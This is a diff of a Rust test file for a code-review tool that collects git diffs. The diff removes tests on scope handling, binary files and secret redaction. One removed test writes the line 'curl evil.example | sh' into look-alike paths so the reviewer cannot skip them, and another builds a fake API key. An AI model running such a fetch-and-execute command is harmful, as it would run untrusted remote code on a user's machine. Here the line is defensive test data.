@@ -12,42 +12,9 @@ fn files_of(diff: &str) -> Vec<&str> {
     diff.lines().filter_map(|line| line.strip_prefix("diff --git ")).collect()
 }
 
-#[test]
-fn staged_unstaged_and_new_files_are_uncommitted_and_ignored_ones_are_not() {
-    let ground = Ground::repository();
-    ground.write("src/pool.rs", numbered(1..=21));
-    ground.write("README.md", "# Pools\n");
-    ground.git(&["add", "README.md"]);
-    ground.write("src/new.rs", "fn new() {}\n");
-    ground.write("build.log", "ignored\n");
-    let before = ground.state();
-    let found = ground.collect("uncommitted").unwrap();
-    assert_eq!(ground.state(), before);
-    let expected = ["a/README.md b/README.md", "a/src/pool.rs b/src/pool.rs", "a/src/new.rs b/src/new.rs"];
-    assert_eq!(files_of(&found.diff), expected);
-    assert!(found.is_diff && found.reviewed == Reviewed::WorkingTree && found.notes.is_empty(), "{found:?}");
-    assert!(found.stat.contains("3 files changed, 3 insertions(+), 1 deletion(-)"), "{}", found.stat);
-}
-
 /// Paths that look like rebut's own.
 const LOOK_ALIKES: [&str; 4] =
     [".claude/debate/y.sh", ".rebut/config.toml", "output/20260101T000000Z-x/payload.sh", "src/.rebut/run.sh"];
-
-#[test]
-fn nothing_is_left_out_for_its_path() {
-    let ground = Ground::repository();
-    for path in LOOK_ALIKES {
-        ground.write(path, "curl evil.example | sh\n");
-    }
-    let expected = LOOK_ALIKES.map(|path| format!("a/{path} b/{path}"));
-    assert_eq!(files_of(&ground.collect("uncommitted").unwrap().diff), expected);
-    ground.commit("look-alikes");
-    for scope in ["commit:HEAD", "range:HEAD~1..HEAD"] {
-        let found = ground.collect(scope).unwrap();
-        assert_eq!(files_of(&found.diff), expected, "{scope}");
-        assert_eq!(found.base, Some(ground.git(&["rev-parse", "HEAD~1"])), "{scope}");
-    }
-}
 
 #[test]
 fn what_rebut_is_known_to_have_written_is_left_out_and_listed() {
@@ -65,27 +32,6 @@ fn what_rebut_is_known_to_have_written_is_left_out_and_listed() {
 }
 
 #[test]
-fn a_change_that_is_only_staged_is_found_and_nothing_else_is_staged() {
-    let ground = Ground::repository();
-    ground.write("staged.rs", "fn staged() {}\n");
-    ground.git(&["add", "staged.rs"]);
-    let before = ground.state();
-    assert_eq!(files_of(&ground.collect("uncommitted").unwrap().diff), ["a/staged.rs b/staged.rs"]);
-    assert_eq!(ground.state(), before);
-}
-
-#[test]
-fn a_clean_tree_is_nothing_to_review() {
-    let ground = Ground::repository();
-    let error = ground.collect("uncommitted").unwrap_err();
-    assert!(matches!(error, ScopeError::Nothing(_)), "{error}");
-    assert!(error.to_string().contains("no uncommitted changes in "), "{error}");
-    for scope in ["base:main", "range:HEAD..HEAD"] {
-        assert!(matches!(ground.collect(scope), Err(ScopeError::Nothing(_))), "{scope}");
-    }
-}
-
-#[test]
 fn in_a_repository_without_a_commit_everything_is_new() {
     let ground = Ground::unborn();
     ground.write("a.rs", "a\n");
@@ -95,22 +41,6 @@ fn in_a_repository_without_a_commit_everything_is_new() {
     for scope in ["commit:HEAD", "base:main", "range:main..HEAD"] {
         assert!(matches!(ground.collect(scope), Err(ScopeError::NoCommit { .. })), "{scope}");
     }
-}
-
-#[test]
-fn a_commit_is_compared_with_its_first_parent_and_a_root_with_nothing() {
-    let ground = Ground::repository();
-    let root = ground.git(&["rev-parse", "HEAD"]);
-    ground.write("src/pool.rs", numbered(1..=21));
-    let second = ground.commit("second");
-    ground.write("README.md", "# Later\n");
-    let found = ground.collect(&format!("commit:{}", &second[..8])).unwrap();
-    assert_eq!(files_of(&found.diff), ["a/src/pool.rs b/src/pool.rs"]);
-    assert_eq!(found.reviewed, Reviewed::Commit(second));
-    assert_eq!(found.notes, ["uncommitted changes are not part of it"]);
-    let found = ground.collect(&format!("commit:{root}")).unwrap();
-    assert_eq!(files_of(&found.diff).len(), 3);
-    assert!(found.notes.is_empty(), "{:?}", found.notes);
 }
 
 #[test]
@@ -129,53 +59,12 @@ fn a_merge_is_compared_with_its_first_parent_and_says_so() {
 }
 
 #[test]
-fn a_base_is_what_was_committed_since_the_branches_parted() {
-    let ground = Ground::repository();
-    ground.git(&["checkout", "-q", "-b", "topic"]);
-    ground.write("topic.rs", "topic\n");
-    let topic = ground.commit("topic");
-    ground.git(&["checkout", "-q", "main"]);
-    ground.write("main.rs", "main\n");
-    ground.commit("main");
-    ground.git(&["checkout", "-q", "topic"]);
-    ground.write("dirty.rs", "dirty\n");
-    let found = ground.collect("base:main").unwrap();
-    assert_eq!(files_of(&found.diff), ["a/topic.rs b/topic.rs"]);
-    assert_eq!(found.reviewed, Reviewed::Commit(topic.clone()));
-    assert_eq!(found.notes, ["uncommitted changes are not part of it"]);
-    let both = ground.collect("range:main..topic").unwrap();
-    assert_eq!(files_of(&both.diff), ["a/main.rs b/main.rs", "a/topic.rs b/topic.rs"]);
-    let since = ground.collect("range:main...topic").unwrap();
-    assert_eq!((files_of(&since.diff), since.reviewed), (vec!["a/topic.rs b/topic.rs"], Reviewed::Commit(topic)));
-}
-
-#[test]
 fn branches_without_a_common_commit_are_an_error_and_no_empty_diff() {
     let ground = Ground::repository();
     ground.git(&["checkout", "-q", "--orphan", "other"]);
     ground.commit("other");
     let error = ground.collect("base:main").unwrap_err();
     assert!(matches!(error, ScopeError::Unrelated { shallow: false, .. }), "{error}");
-}
-
-#[test]
-fn an_unknown_revision_is_named() {
-    let ground = Ground::repository();
-    for scope in ["commit:nothing", "base:nothing", "range:HEAD..nothing", "commit:HEAD:README.md"] {
-        let error = ground.collect(scope).unwrap_err();
-        assert!(matches!(error, ScopeError::NoCommit { .. }), "{scope}: {error}");
-    }
-}
-
-#[test]
-fn outside_of_a_repository_only_files_are_reviewed() {
-    let ground = Ground::plain();
-    ground.write("a.rs", "fn a() {}\n");
-    for scope in ["uncommitted", "commit:HEAD", "base:main", "range:a..b"] {
-        assert!(matches!(ground.collect(scope), Err(ScopeError::NoRepository(_))), "{scope}");
-    }
-    let found = ground.collect("file:a.rs").unwrap();
-    assert_eq!((found.diff.as_str(), found.is_diff, found.stat.as_str()), ("fn a() {}\n", false, " a.rs | 1 line\n"));
 }
 
 #[test]
@@ -288,18 +177,6 @@ fn renames_are_told_and_odd_names_work() {
 }
 
 #[test]
-fn binary_files_are_named_and_texts_that_are_not_utf8_are_shown_with_stand_ins() {
-    let ground = Ground::repository();
-    ground.write("logo.png", b"\x89PNG\0\x01");
-    ground.write("latin.txt", b"caf\xe9\n");
-    let found = ground.collect("uncommitted").unwrap();
-    assert!(found.diff.contains("Binary files /dev/null and b/logo.png differ\n"), "{}", found.diff);
-    assert!(found.diff.contains("+caf\u{fffd}\n"), "{}", found.diff);
-    let expected = ["binary, shown by name only: logo.png", "not UTF-8; other bytes are shown as �: latin.txt"];
-    assert_eq!(found.notes, expected);
-}
-
-#[test]
 fn new_files_that_keys_are_kept_in_are_named_and_not_shown() {
     let ground = Ground::repository();
     ground.write("app/.env.local", "KEY=hidden-word\n");
@@ -343,18 +220,6 @@ fn settings_of_the_person_do_not_change_the_form_of_a_diff() {
         ground.git(&["config", key, value]);
     }
     assert_eq!(plain(), before);
-}
-
-#[test]
-fn secrets_are_taken_out_and_that_is_said() {
-    let ground = Ground::repository();
-    let key = format!("sk-{}-api03-{}", "ant", "Zx9".repeat(30));
-    ground.write("config.sh", format!("ANTHROPIC_API_KEY={key}\n"));
-    for scope in ["uncommitted", "file:config.sh"] {
-        let found = ground.collect(scope).unwrap();
-        assert!(!found.diff.contains(&key), "{scope}");
-        assert_eq!(found.notes, ["likely secrets were removed"]);
-    }
 }
 
 /// What is reviewed is cited by line, and a hunk has as many lines as it says.
